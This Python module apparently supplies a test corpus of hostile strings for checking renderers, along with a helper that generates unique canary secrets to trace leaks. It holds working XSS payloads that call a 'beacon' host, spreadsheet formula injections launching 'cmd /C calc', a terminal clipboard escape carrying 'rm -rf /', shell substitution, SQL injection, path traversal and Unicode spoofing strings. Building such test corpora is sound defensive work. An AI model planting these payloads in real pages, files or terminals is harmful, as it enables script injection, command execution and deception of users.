"""The corpus of hostile strings, shared by all renderers. Each tries one trick; `beacon` is where it would call home."""

from __future__ import annotations

import random

NAMES = (
    "Vellichor Quarrin Ostrander Zephyrine Baltasar Wrenfield Maldonado Okonjo Tsvetaeva Hrafn Ikaika Delacroix".split()
)


def payloads(beacon: str) -> dict[str, str]:
    """Name of the trick -> the string."""
    b = beacon
    return {
        # HTML and scripts
        "script": f"<script>fetch('{b}/script')</script>",
        "handler": f"<img src=x onerror=\"fetch('{b}/handler')\">",
        "remote_image": f'<img src="{b}/remote-image">',
        "svg": f"<svg onload=\"fetch('{b}/svg')\"><a xlink:href=\"javascript:fetch('{b}/xlink')\">x</a></svg>",
        "attribute": f'" onmouseover="fetch(\'{b}/attribute\')" autofocus onfocus="fetch(\'{b}/focus\')" tabindex=1 x="',
        "attribute_single": f"' autofocus onfocus='fetch(\"{b}/single\")' tabindex=1 x='",
        "close_script": f"</script><script src={b}/close></script>",
        "close_all": f"</title></style></textarea></svg>--><script>fetch('{b}/close-all')</script>",
        "comment": f"<!-- --!><script>fetch('{b}/comment')</script> -->",
        "style": f"<style>@import url({b}/style); body{{background:url({b}/background)}}</style>",
        "frame": f'<iframe src="{b}/frame"></iframe><object data={b}/object></object><embed src={b}/embed>',
        "refresh": f'<meta http-equiv="refresh" content="0;url={b}/refresh">',
        "base": f'<base href="{b}/"><link rel=stylesheet href={b}/link><form action={b}/form><button>x</button></form>',
        "javascript_url": f"javascript:fetch('{b}/javascript')",
        "data_url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "entities": f"&lt;script&gt;fetch('{b}/entities')&lt;/script&gt; &#60;b&#62; &amp;lt;i&amp;gt;",
        "template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
        # Markdown
        "markdown_image": f"![x]({b}/markdown-image)",
        "markdown_link": f"[click](javascript:fetch('{b}/markdown-link)) <{b}/autolink> {b}/bare www.evil.example",
        "markdown_reference": f"[x][y]\n\n[y]: {b}/reference",
        "markdown_fence": f"``` `` `\n<script>fetch('{b}/fence')</script>\n~~~",
        "markdown_block": "\n# heading\n- item\n1. one\n> quote\n***\n| a | b |\n|---|---|",
        # Spreadsheets
        "formula": f'=HYPERLINK("{b}/formula","x")',
        "formula_plus": "+1+cmd|' /C calc'!A0",
        "formula_minus": "-2+3+cmd|' /C calc'!A0",
        "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "formula_tab": "\t=1+1",
        "formula_blank": ' "=1+1',
        "formula_wide": "＝1+1",
        "cells": 'a,"b\nc";d\te',
        # Terminals
        "clear_screen": "\x1b[2J\x1b[1;31mred\x1b[0m\r\b\b",
        "title": "\x1b]0;owned\x07",
        "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x1b\\",
        "hyperlink": f"\x1b]8;;{b}/osc\x07click\x1b]8;;\x07",
        "c1": "\x9b31mred\x90q\x9c\x85",
        "rich_markup": f"[bold red]x[/] [/x] [link={b}/rich]x[/link] :smile: [@click=app.bell]x[/]",
        # Letters that hide or turn
        "bidi": "user\u202egnp.exe\u2066x\u2069\u061c",
        "zero_width": "ad\u200bmin\u2060\ufeff\u00ad",
        "tags": "x\U000e0041\U000e0042\U000e007f",
        "selectors": "x\ufe0f\U000e0100\u3164\u115f",
        "null": "a\x00b",
        "surrogate": "a\ud800b",
        "separators": "a\u2028b\u2029c\x0bd\x0ce",
        # Paths and commands
        "parent": "../../../../hostile-escape",
        "parent_windows": "..\\..\\hostile-escape",
        "absolute": "/hostile-escape/x",
        "dots": "..",
        "device": "CON",
        "device_file": "nul.txt",
        "home": "~root",
        "option": "--help",
        "shell": "$(touch hostile-escape) `touch hostile-escape`; touch hostile-escape",
        "sql": "'; DROP TABLE fragments; --",
        "format": "%s%n%x{0}{self.__class__}",
        "json": '"}],"fragments":[{"verdict":"excluded',
        # Headers and lines
        "header": "a\r\nSet-Cookie: x=1\r\n\r\n<html>",
        "log_line": 'x\n{"action": "review", "reason": "accept by nobody"}',
        "bag_line": "x\n" + "0" * 64 + "  data/forged.txt",
        # Sizes and look-alikes
        "long_word": "W" * 2000,
        "long_line": "wide " * 150,
        "look_alike": "\u0430cme",
        "looked_at": "acme",
        "combining": "a" + "\u0301" * 200,
    }


def secret(number: int) -> str:
    """A text that nothing else in the case resembles, so that a leak of it has one possible source."""
    dice = random.Random(f"secret {number}")
    name = f"{dice.choice(NAMES)}-{''.join(dice.choices('bcdfghklmnprstvz', k=5))}o"
    digits = "-".join(f"{dice.randrange(10_000):04d}" for _ in range(4))
    words = " ".join("".join(dice.choices("abcdefghijklmnopqrstuvwxyz", k=dice.randrange(5, 10))) for _ in range(9))
    return f"reference {digits} of {name}: {words}"
